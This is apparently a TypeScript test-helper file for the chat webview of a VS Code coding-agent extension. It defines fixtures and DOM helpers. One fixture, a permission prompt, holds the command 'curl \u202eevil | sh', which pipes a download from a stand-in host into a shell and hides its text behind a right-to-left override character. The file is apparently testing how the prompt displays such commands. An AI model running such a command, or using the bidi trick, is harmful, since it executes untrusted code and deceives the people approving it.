// The page of the chat in jsdom, with a host that listens.

import "@vscode-elements/elements/dist/vscode-button/index.js";
import type { FromPage, ToPage } from "../src/chat/messages";
import type { Patch } from "../src/session/patches";
import type { Turn, TurnHead } from "../src/session/state";
import { emptyPage, type Head, type Item, type QuestionItem, type WindowState } from "../src/session/state";
import { App, type Saved } from "../webview/app";

// jsdom has no forms with elements of others; ours are in none.
const attachInternals = HTMLElement.prototype.attachInternals;
HTMLElement.prototype.attachInternals = function (this: HTMLElement) {
  return Object.assign(attachInternals.call(this), { setFormValue: () => {} });
};

export const PERMISSION: QuestionItem = {
  kind: "question",
  id: "question/q",
  answer: null,
  question: {
    questionId: "q",
    kind: "permission",
    title: "May Odin run this command?",
    command: "curl \u202eevil | sh",
    cwd: "/project",
    detail: "curl \u202eevil | sh\nin /project\nit needs the network",
    options: [
      { id: "allow_once", label: "Allow once" },
      { id: "allow_session", label: "Allow “curl …” in this session" },
      { id: "deny", label: "Deny" },
    ],
    allowText: true,
  },
};

export const BROKEN = {
  uri: "file:///p/my%20b.ts",
  line: 3,
  severity: "error" as const,
  message: "Expected 3 arguments.",
};
const UNUSED = { uri: "file:///p/a.ts", line: 7, severity: "warning" as const, message: "x is not used." };
export const PROBLEMS: Item = {
  kind: "problems",
  id: "9",
  introduced: [BROKEN],
  fixed: [UNUSED],
  found: [],
  remaining: 2,
};

export class Page {
  readonly posted: FromPage[] = [];
  saved: Saved | undefined;
  readonly app: App;

  constructor(saved?: Saved) {
    this.saved = saved;
    document.documentElement.lang = "en";
    document.title = "Odin";
    this.app = new App(document.body, {
      post: (message) => this.posted.push(message),
      load: () => this.saved,
      save: (it) => {
        this.saved = structuredClone(it);
      },
    });
  }

  take(message: ToPage): void {
    this.app.take(message);
  }

  /** Show these turns, and nothing else. */
  show(turns: Turn[], head: Partial<Head> = {}, window: Partial<WindowState> = {}): void {
    const { head: noHead, window: noWindow } = emptyPage();
    const state = { head: { ...noHead, ...head }, turns };
    const patches: Patch[] = [
      { kind: "window", window: { ...noWindow, server: "ready", ...window } },
      { kind: "all", state },
    ];
    this.take({ type: "patches", patches });
  }

  of<Type extends FromPage["type"]>(type: Type): Extract<FromPage, { type: Type }>[] {
    return this.posted.filter((it): it is Extract<FromPage, { type: Type }> => it.type === type);
  }
}

export function turnWith(items: Item[], head: Partial<TurnHead> = {}): Turn {
  return { head: { id: "t", said: "Why?", mode: "ask_mode", status: "ended", changed: [], ...head }, items };
}

export function text(words: string): Item {
  return { kind: "text", id: "text/1", text: words, isDone: true };
}

export function find<Found extends Element = HTMLElement>(selector: string): Found {
  const found = document.querySelector<Found>(selector);
  if (!found) throw new Error(`nothing is ${selector} in ${document.body.innerHTML.slice(0, 2000)}`);
  return found;
}

/** By its name, as somebody who cannot see it finds it. */
export function named(name: string, role = "button, vscode-button, textarea, select, input"): HTMLElement {
  const found = [...document.querySelectorAll<HTMLElement>(role)].filter(
    (it) => (it.getAttribute("aria-label") ?? it.textContent)?.trim() === name,
  );
  if (found.length !== 1 || !found[0]) throw new Error(`${found.length} are named ${name}`);
  return found[0];
}

export function press(element: HTMLElement, key: string, more: KeyboardEventInit = {}): KeyboardEvent {
  const event = new KeyboardEvent("keydown", { key, bubbles: true, cancelable: true, ...more });
  element.dispatchEvent(event);
  return event;
}

export function write(field: HTMLElement, words: string): void {
  const area = field as HTMLTextAreaElement;
  area.value = words;
  area.setSelectionRange(words.length, words.length);
  area.dispatchEvent(new Event("input", { bubbles: true }));
}
